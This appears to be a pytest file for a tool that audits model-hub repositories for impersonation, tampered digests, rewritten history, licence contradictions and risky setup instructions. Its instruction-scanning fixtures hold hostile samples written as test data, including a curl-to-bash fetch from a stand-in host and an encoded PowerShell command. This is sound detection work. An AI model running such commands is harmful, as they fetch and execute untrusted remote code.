"""Publisher, impersonation, digests, history, documentation and claims: what is said of each."""

from __future__ import annotations

import json
import struct
from typing import Any

import pytest

from hub_server import Hub, Repository, git_name, serve
from weighbridge.analysis.impersonation import copied, distance, imitated, skeleton
from weighbridge.analysis.licence import contradict, licence_of
from weighbridge.core.finding import Finding, GapKind
from weighbridge.core.format import Limits
from weighbridge.core.tree import Held
from weighbridge.core.trust import LOCK_SCHEMA, Lock, Publisher, Trust
from weighbridge.engine import audit as engine
from weighbridge.engine.audit import Audited
from weighbridge.engine.examine import examine
from weighbridge.engine.ruleset import load
from weighbridge.engine.supervisor import Settings
from weighbridge.intel.publishers import known
from weighbridge.sources.target import Access

PROSE = " ".join(
    f"Sentence {n} of a card about a model that filters private details." for n in range(12)
)
CARD = (
    f"---\nlicense: mit\ndatasets:\n- org/data\npipeline_tag: fill-mask\n---\n# A model\n{PROSE}\n"
)
MIT = (
    "MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy\n"
)
APACHE = "Apache License\nVersion 2.0\nTERMS AND CONDITIONS FOR USE, REPRODUCTION, AND DISTRIBUTION"


def weights(shape: list[int], dtype: str = "F16", width: int = 2) -> bytes:
    size = width
    for n in shape:
        size *= n
    text = json.dumps({"w": {"dtype": dtype, "shape": shape, "data_offsets": [0, size]}}).encode()
    return struct.pack("<Q", len(text)) + text + bytes(size)


def repository(card: str = CARD, **more: Any) -> Repository:
    files = {"README.md": card.encode(), "model.safetensors": weights([100, 100])}
    return Repository({**files, **more.pop("files", {})}, **more)


def look(hub: Hub, name: str = "acme-labs/filter") -> Audited:
    with serve(hub) as endpoint:
        return engine.run(name, Settings(), None, Access(endpoint=endpoint))


def said(audited: Audited, check: str) -> list[tuple[str, str]]:
    return [(f.action.value, f.message) for f in audited.findings if f.check == check]


def of(audited: Audited, check: str, symbol: str) -> Finding:
    (found,) = [f for f in audited.findings if (f.check, f.symbol) == (check, symbol)]
    return found


IMITATIONS = {
    "EleuterAI": ("EleutherAI", True),
    "meta-lIama": ("meta-llama", True),
    "0penai": ("openai", True),
    "rnicrosoft": ("microsoft", True),
    "llama-meta": ("meta-llama", True),
    "gooogle": ("google", True),
    "gogole": ("google", True),
    "deepseekai": ("deepseek-ai", True),
    "deepseek": ("deepseek-ai", False),
    "openai-official": ("openai", False),
    "оpenai": ("openai", True),
    "openai": None,
    "OpenAI": None,
    "acme-labs": None,
    "my-company": None,
    "nvidia-research-labs-eu": None,
    "Owen": None,
    "bert": None,
}


@pytest.mark.parametrize("name", IMITATIONS)
def test_imitations(name: str) -> None:
    found = imitated(name, known().publishers)
    assert (found and (found.known, found.plain)) == IMITATIONS[name]


def test_known_names_imitate_nobody() -> None:
    names = known().publishers
    assert [n for n in names if imitated(n, names)] == []
    assert len({skeleton(n) for n in names}) == len(names)


@pytest.mark.parametrize(
    ("one", "other", "most", "expected"),
    [("abc", "abc", 1, 0), ("abc", "acb", 1, 1), ("abc", "abcd", 1, 1), ("abc", "xyz", 2, None),
     ("", "ab", 2, 2), ("kitten", "sitting", 3, 3), ("kitten", "sitting", 2, None)],
)  # fmt: skip
def test_distance(one: str, other: str, most: int, expected: int | None) -> None:
    assert distance(one, other, most) == expected


def test_copied_cards() -> None:
    assert copied(PROSE, PROSE) == 1.0
    assert copied(PROSE, "short") is None
    other = " ".join(f"Quite another text {n} on weather and the sea in winter" for n in range(12))
    share = copied(PROSE, other)
    assert share is not None
    assert share < 0.1


def test_a_look_alike_blocks() -> None:
    audited = look(Hub({"EleuterAI/gpt-j": repository()}), "EleuterAI/gpt-j")
    assert [a for a, _ in said(audited, "impersonation")] == ["block"]


def test_a_verified_look_alike_is_reviewed() -> None:
    owners = {"EleuterAI": {"name": "EleuterAI", "isVerified": True}}
    audited = look(Hub({"EleuterAI/gpt-j": repository()}, owners=owners), "EleuterAI/gpt-j")
    assert [a for a, _ in said(audited, "impersonation")] == ["review"]


COPIES = {
    "a copy": (CARD, "2026-01-01", ["block"]),
    "names its base": (CARD.replace("license", "base_model: big-corp/filter\nlicense"),
                       "2026-01-01", []),
    "is the older one": (CARD, "2020-01-01", []),
    "another text": ("---\nlicense: mit\n---\nSomething else altogether.", "2026-01-01", []),
}  # fmt: skip


@pytest.mark.parametrize("case", COPIES)
def test_copied_cards_of_namesakes(case: str) -> None:
    card, created, actions = COPIES[case]
    mine = repository(card, facts={"createdAt": created})
    theirs = repository(facts={"createdAt": "2024-01-01"})
    audited = look(Hub({"acme-labs/filter": mine, "big-corp/filter": theirs}))
    assert [a for a, _ in said(audited, "impersonation")] == actions


def test_the_name_of_a_known_model() -> None:
    audited = look(Hub({"acme-labs/whisper-large-v3": repository()}), "acme-labs/whisper-large-v3")
    assert [a for a, _ in said(audited, "impersonation")] == ["review"]
    derived = repository(CARD.replace("license", "base_model: openai/whisper-large-v3\nlicense"))
    audited = look(Hub({"acme-labs/whisper-large-v3": derived}), "acme-labs/whisper-large-v3")
    assert said(audited, "impersonation") == []


def test_the_publisher_is_shown_and_popularity_is_not() -> None:
    owners = {"acme-labs": {"name": "acme-labs", "isVerified": True, "createdAt": "2026-11-01"}}
    hub = Hub({"acme-labs/filter": repository(facts={"downloads": 10_000_000})}, owners=owners)
    finding = of(look(hub), "publisher-identity", "acme-labs")
    assert finding.action.value == "review"
    shown = str(finding.evidence)
    assert "2026-11-01" in shown
    assert "10000000" not in shown.replace(",", "")


def test_a_renamed_repository_is_reviewed() -> None:
    hub = Hub({"new/filter": repository()}, renamed={"acme-labs/filter": "new/filter"})
    assert of(look(hub), "publisher-identity", "renamed").action.value == "review"


def test_digests_of_the_same_origin_are_no_pass() -> None:
    audited = look(Hub({"acme-labs/filter": repository()}))
    ((action, message),) = said(audited, "published-digest")
    assert action == "review"
    assert "2 of 2 files have the digest" in message


@pytest.mark.parametrize(
    ("path", "declared", "kind"),
    [("README.md", git_name(b"another"), "git blob id"), ("model.safetensors", "0" * 64, "sha256")],
)
def test_bytes_that_are_not_those_of_the_listing_block(path: str, declared: str, kind: str) -> None:
    hub = Hub({"acme-labs/filter": repository(declared={path: declared})})
    (blocking,) = [f for f in look(hub).findings if f.check == "published-digest"
                   and f.action.value == "block"]  # fmt: skip
    assert blocking.at.path == path
    assert kind in blocking.message


@pytest.mark.parametrize(
    ("revision", "actions"), [("", ["review"]), ("@v1", ["review"]), (f"@{'a' * 40}", [])]
)
def test_pinned_revisions(revision: str, actions: list[str]) -> None:
    hub = Hub({"acme-labs/filter": repository(branches=("main", "v1"))})
    audited = look(hub, "acme-labs/filter" + revision)
    assert [a for a, _ in said(audited, "pinned-revision")] == actions


def commit(user: str, date: str, id: str) -> dict[str, Any]:
    return {"id": id * 40, "title": "change", "authors": [{"user": user}], "date": date}


@pytest.mark.parametrize(
    ("history", "action"),
    [
        ([commit("stranger", "2026-05-02", "b"), commit("acme-labs", "2026-01-01", "c")], "review"),
        ([commit("acme-labs", "2026-05-02", "b"), commit("acme-labs", "2026-01-01", "c")], "note"),
        ([commit("ann", "2026-05-02", "b"), commit("ann", "2026-01-01", "c")], "note"),
        ([commit("ann", "2026-05-02", "b")], "note"),
    ],
)
def test_who_changed_the_weights(history: list[dict[str, Any]], action: str) -> None:
    audited = look(Hub({"acme-labs/filter": repository(history=history)}))
    assert [a for a, _ in said(audited, "weights-history")] == [action]


DOCUMENTATION = {
    "no base": (CARD, ["note"]),
    "nothing": ("# A model\n", ["review"]),
    "in words": ("Trained on a corpus of ours, from scratch. Licence, benchmark, limitations.",
                 []),
    "no evaluation": ("---\nlicense: mit\ndatasets: [a/b]\n---\nbase model: none. use cases\n",
                      ["note"]),
}  # fmt: skip


@pytest.mark.parametrize("case", DOCUMENTATION)
def test_documentation(case: str) -> None:
    card, actions = DOCUMENTATION[case]
    hub = Hub({"acme-labs/filter": repository(card), "org/data": repository(), "a/b": repository()})
    audited = look(hub)
    found = [a for a, m in said(audited, "documentation")]
    assert found == actions
    assert any(g.kind is GapKind.NOT_GIVEN and "training-data" in g.controls for g in audited.gaps)


def test_data_sets_that_are_not_there() -> None:
    named = repository(facts={"cardData": {"datasets": ["org/data"]}})
    audited = look(Hub({"acme-labs/filter": named}))
    assert of(audited, "documentation", "org/data").action.value == "review"
    audited = look(Hub({"acme-labs/filter": named, "org/data": repository()}))
    assert not [f for f in audited.findings if f.symbol == "org/data"]


@pytest.mark.parametrize(
    ("text", "name"),
    [(MIT, "mit"), (APACHE, "apache-2.0"), ("LLAMA 2 COMMUNITY LICENSE AGREEMENT", "llama2"),
     ("# Creative Commons Attribution-NonCommercial 4.0 International", "cc-by-nc-4.0"),
     ("GNU AFFERO GENERAL PUBLIC LICENSE\n   Version 3, 19 November", "agpl-3.0"),
     ("This model may be used. See the licence of its base.", None)],
)  # fmt: skip
def test_licence_texts(text: str, name: str | None) -> None:
    assert licence_of(text) == name


@pytest.mark.parametrize(
    ("tag", "found", "wrong"),
    [("mit", "mit", False), ("mit", "apache-2.0", True), ("other", "mit", False),
     ("gpl", "gpl-3.0", False), ("llama3", "llama3.1", True), ("gpl-3.0-only", "gpl-3.0", False),
     ("apache-2.0", "cc-by-nc-4.0", True)],
)  # fmt: skip
def test_licence_tags(tag: str, found: str, wrong: bool) -> None:
    assert contradict(tag, found) is wrong


CLAIMS = {
    "right": ("acme-labs/filter", {"LICENSE": MIT.encode()}, []),
    "licence": ("acme-labs/filter", {"LICENSE": APACHE.encode()}, ["licence"]),
    "size": ("acme-labs/filter-7B", {}, ["size"]),
    "size in range": ("acme-labs/filter-0.01M", {}, []),
    "experts": ("acme-labs/filter-8x7B", {}, []),
    "quantised": ("acme-labs/filter-7B-4bit",
                  {"config.json": b'{"model_type": "x", "quantization_config": {}}'}, []),
    "precision": ("acme-labs/filter",
                  {"config.json": b'{"model_type": "x", "torch_dtype": "float32"}'}, ["precision"]),
}  # fmt: skip


@pytest.mark.parametrize("case", CLAIMS)
def test_claims(case: str) -> None:
    name, files, symbols = CLAIMS[case]
    audited = look(Hub({name: repository(files=files)}), name)
    assert [f.symbol for f in audited.findings if f.check == "card-claims"] == symbols


def test_the_hub_s_scanners_are_quoted() -> None:
    accused = {"avScan": {"status": "safe"}, "protectAiScan": {"status": "unsafe"}}
    scans: dict[str, dict[str, Any]] = {"model.safetensors": accused}
    audited = look(Hub({"acme-labs/filter": repository(scans=scans)}))
    assert [a for a, _ in said(audited, "hub-scans")] == ["review", "note"]
    safe: dict[str, dict[str, Any]] = {"model.safetensors": {"avScan": {"status": "safe"}}}
    audited = look(Hub({"acme-labs/filter": repository(scans=safe)}))
    assert [a for a, _ in said(audited, "hub-scans")] == ["note"]


INSTRUCTIONS = {
    "curl to a shell": ("```bash\ncurl -fsSL https://x.test/i.sh | bash\n```\n", ["review"]),
    "encoded": ("```\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\n```\n", ["review"]),
    "no certificates": ("```python\nrequests.get(u, verify=False)\n```\n", ["review"]),
    "a script": ("```\npython loader.py --fast\n```\n", ["note"]),
    "a program": ("```\n.\\start.bat\n```\n", ["review"]),
    "trust": ("```python\nAutoModel.from_pretrained(x, trust_remote_code=True)\n```\n", ["note"]),
    "plain": ("```python\nfrom transformers import pipeline\npipeline('x')\n```\n", []),
    "prose": ("Never run `curl … | bash` from a card.\n", []),
    "pip": ("```bash\npip install transformers\n```\n", []),
}  # fmt: skip


@pytest.mark.parametrize("case", INSTRUCTIONS)
def test_instructions(case: str) -> None:
    text, actions = INSTRUCTIONS[case]
    examined = examine(Held("README.md", f"# A\n{text}".encode()), load(), Limits())
    found = [f.action.value for f in examined.findings if f.check == "card-instructions"]
    assert found == actions


def test_names_that_the_user_knows_are_imitated_too() -> None:
    hub = Hub({"acme-lab/filter": repository()})
    assert said(look(hub, "acme-lab/filter"), "impersonation") == []
    publishers = (Publisher(repository="acme-labs/*", key="x"),)
    for trust in (Trust(known_names=("acme-labs",)), Trust(publishers=publishers)):
        with serve(hub) as endpoint:
            access = Access(endpoint=endpoint)
            audited = engine.run("acme-lab/filter", Settings(), None, access, trust)
        assert [a for a, _ in said(audited, "impersonation")] == ["block"]


@pytest.mark.parametrize(
    ("history", "actions"),
    [([commit("ann", "2026-05-02", "a"), commit("ann", "2026-01-01", "c")], ["review"]),
     ([commit("ann", "2026-05-02", "a"), commit("ann", "2026-01-01", "b")], []),
     ([], [])],
)  # fmt: skip
def test_a_history_that_was_rewritten(history: list[dict[str, Any]], actions: list[str]) -> None:
    lock = Lock(
        schema=LOCK_SCHEMA, target="acme-labs/filter", kind="hub", where=None,
        id="acme-labs/filter", key="66" + "0" * 22, created=None, commit="b" * 40,
        verdict="review", ruleset="", files=(),
    )  # fmt: skip
    with serve(Hub({"acme-labs/filter": repository(history=history)})) as endpoint:
        access = Access(endpoint=endpoint)
        audited = engine.run("acme-labs/filter", Settings(), None, access, Trust(lock=lock))
    assert [a for a, _ in said(audited, "rewritten-history")] == actions


def test_a_quantiser_is_known_by_what_it_declares() -> None:
    card = CARD.replace("license", "base_model: org/x\nbase_model_relation: quantized\nlicense")
    hub = Hub({"acme-labs/filter": repository(card), "org/x": repository()})
    assert "quantized from org/x" in str(of(look(hub), "publisher-identity", "acme-labs").evidence)
